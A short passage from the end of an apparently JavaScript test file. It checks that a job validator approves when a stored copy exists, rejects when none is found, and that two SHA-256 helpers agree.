    expect(validateJob(s, ctx({ o }, { storedCopy: (p) => copies.get(p) })).approved).toBe(true);
    expect(validateJob(s, ctx({ o }, { storedCopy: () => undefined })).approved).toBe(false);
    expect(sha256Hex(Buffer.from(MAIN))).toBe(sha(MAIN));
  });
});
